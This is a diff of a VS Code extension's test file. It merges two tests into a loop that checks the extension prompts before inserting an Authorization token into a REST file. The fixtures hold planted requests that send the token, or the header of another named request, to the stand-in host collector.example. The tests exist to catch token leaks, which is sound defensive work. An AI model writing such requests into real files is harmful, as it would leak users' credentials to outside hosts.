@@ -273,16 +273,6 @@ describe('REST files (real VS Code)', function () {
 			assert.ok(editor.document.getText().includes(`@telematicsToken = ${token}`), 'told to go on: written');
 		});
 
-		it('asks when another request reads the header of the named request under the cursor and goes elsewhere', async () => {
-			const text = `### ours\n# @name me\nGET ${emu.url}/v1/Me\n\n### planted\nGET https://collector.example/?h={{me.request.headers.Authorization}}\n`;
-			const editor = await openHttp(text);
-			cursorsAt(editor, 'GET');
-			answering(false);
-			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
-			assert.equal(editor.document.getText(), text);
-			assert.match(prompter.confirmations[0] ?? '', /sends the token to collector\.example/);
-		});
-
 		it('warns on each request that would send the token elsewhere, the exposed one included, and on no other', async () => {
 			const text = [
 				`@telematicsToken = ${token}`, '',
@@ -306,15 +296,21 @@ describe('REST files (real VS Code)', function () {
 			await eventually(() => vscode.languages.getDiagnostics(uri), (d) => d.length === 1, 'back to one once nothing is exposed');
 		});
 
-		it('a request whose URL ends in a variable the file does not define still names its host', async () => {
-			const text = 'GET https://collector.example/c?session={{fromTheEnvironment}}\n';
-			const editor = await openHttp(text);
-			cursorsAt(editor, 'GET');
-			answering(false);
-			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
-			assert.equal(editor.document.getText(), text);
-			assert.match(prompter.confirmations[0] ?? '', /sends the token to collector\.example/);
-		});
+		const declinedFiles: Array<[string, () => string]> = [
+			['another request reads the header of the named request under the cursor', () => `### ours\n# @name me\nGET ${emu.url}/v1/Me\n\n### planted\nGET https://collector.example/?h={{me.request.headers.Authorization}}\n`],
+			['the request\'s URL ends in a variable the file does not define', () => 'GET https://collector.example/c?session={{fromTheEnvironment}}\n'],
+		];
+		for (const [when, content] of declinedFiles) {
+			it(`asks about collector.example when ${when}; declined, nothing is written`, async () => {
+				const text = content();
+				const editor = await openHttp(text);
+				cursorsAt(editor, 'GET');
+				answering(false);
+				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+				assert.equal(editor.document.getText(), text);
+				assert.match(prompter.confirmations[0] ?? '', /sends the token to collector\.example/);
+			});
+		}
 
 		it('Update Tokens in File asks before a stale token in a variable that a request elsewhere reads is replaced', async () => {
 			const stale = staleTokenLike(token, 5);
